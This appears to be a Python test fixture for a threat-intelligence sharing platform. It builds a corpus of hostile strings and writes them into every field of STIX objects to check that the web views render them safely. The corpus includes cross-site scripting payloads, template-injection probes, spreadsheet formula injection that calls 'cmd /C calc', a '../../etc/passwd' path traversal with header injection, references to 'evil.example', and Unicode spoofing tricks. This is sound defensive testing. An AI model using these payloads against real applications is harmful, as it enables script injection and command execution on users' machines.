"""Our own corpus of hostile texts, and a body whose every text of others' is one of them.

The classes are those that were found in the field's tools: markup in names, SVG and MathML, attribute break-outs, template and markdown
syntax, script addresses, data addresses, tooltips and graph labels (text that a script reads back from the page), timeline labels, file
names, formulas of spreadsheets, direction overrides, look-alikes, control characters, and text that ends a JSON island or a comment.
"""

from __future__ import annotations

from typing import Any

from comity.terms.stix import sco_id
from tests.consortium import Body, Member, indicator, report, sdo
from tests.doors.web.visitor import READING, named

#: What a browser would do if a text were taken for markup sets `window.bitten`, or asks for `/bitten`.
BITE = "window.bitten=1"
CORPUS: dict[str, str] = {
    "script": f"<script>{BITE}</script>",
    "script in capitals": f"<ScRiPt >{BITE}</sCrIpT >",
    "broken out of an attribute": f"\"'><img src=/bitten onerror={BITE}>",
    "in an attribute without quotes": f"x onmouseover={BITE} autofocus onfocus={BITE} tabindex=1",
    "svg": f"<svg/onload={BITE}><animate onbegin={BITE} attributeName=x dur=1s>",
    "svg with a foreign object": f"<svg><foreignObject><body onload={BITE}></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=/bitten onerror={BITE}>'>",
    "details": f"<details open ontoggle={BITE}>",
    "iframe": f"<iframe srcdoc='<script>parent.{BITE}</script>'></iframe>",
    "ends an element of raw text": f"</title></textarea></style></script><script>{BITE}</script>",
    "ends a comment": f"--><script>{BITE}</script><!--",
    "ends an island": f'"}}</script><script>{BITE}</script>',
    "entities": f"&lt;script&gt;{BITE}&lt;/script&gt;&#60;img src=x onerror={BITE}&#62;",
    "template": "{{ 7*7 }}{% set x = 1 %}${7*7}<%= 7*7 %>#{7*7}",
    "markdown": f"[click](javascript:{BITE}) ![x](/bitten) <javascript:{BITE}>",
    "script address": f"javascript:{BITE}//https://example.com/",
    "script address, disguised": f"\x01java\nscript\t:{BITE}",
    "data address": f"data:text/html,<script>{BITE}</script>",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "formula by plus": "+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "direction override": "invoice\u202egpj.exe",
    "isolates": "\u2066\u2067bad.example\u2069\u2069",
    "nothing to see": "bad\u200b.\u2060exam\ufeffple",
    "look-alike": "\u0440\u0430\u0443\u0440\u0430l.example",
    "control characters": "a\x00b\x1b[31mc\x7f\x9b",
    "line separators": "one\u2028two\u2029three",
    "surrogate pair and combining": "\U0001f600e\u0301\u0301\u0301\u0301" + "\u0336" * 40,
    "style": "<style>*{background:url(/bitten)}</style><link rel=stylesheet href=/bitten>",
    "base and meta": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=/bitten'>",
    "form": f"<form action=https://evil.example/><button formaction=javascript:{BITE}>x</button></form>",
    "htmx": f"<div hx-get=/bitten hx-trigger=load hx-on:load='{BITE}' data-hx-get=/bitten></div>",
    "file name": "../../etc/passwd\"; filename*=UTF-8''x.html\r\nX-Bitten: 1",
    "long": "A" * 5000,
    "rich text of a chart": "{a|x}<br/>{b}{c}%",
}


def object_of(text: str) -> dict[str, Any]:
    """An indicator that says a text wherever it can."""
    quoted = text.replace("\\", "\\\\").replace("'", "\\'")
    printable = "".join(letter for letter in quoted if letter >= " ")
    return indicator(
        name=text,
        description=text,
        labels=[text],
        indicator_types=[text],
        aliases=[text],
        pattern=f"[file:name = '{printable}']",
        external_references=[{"source_name": text, "description": text, "url": text, "external_id": text}],
        kill_chain_phases=[{"kill_chain_name": text, "phase_name": text}],
        x_odd={"a": text, "b": [text, {"c": text}]},
        lang="en",
    )


def hostile() -> tuple[Body, Member, list[str]]:
    """A centre that reads GREEN, KZ, and the ids of objects that say the corpus."""
    body = Body(agreement=READING)
    kz = body.member("KZ")
    named(body, "UZ", "member", CORPUS["broken out of an attribute"])
    ids = []
    for text in CORPUS.values():
        item = object_of(text)
        about = report(item["id"], name=text, description=text)
        file = {"type": "file", "spec_version": "2.1", "name": text}
        file["id"] = sco_id(file)
        malware = sdo("malware", name=text, is_family=False)
        link = sdo("relationship", relationship_type=text[:250], source_ref=item["id"], target_ref=malware["id"], description=text)
        seen = sdo("sighting", sighting_of_ref=item["id"], description=text, count=1)
        for each in (item, about, file, malware, link, seen):
            if kz.submits(each, tlp="green")[0].outcome == "accepted":
                ids.append(each["id"])
    return body, kz, ids
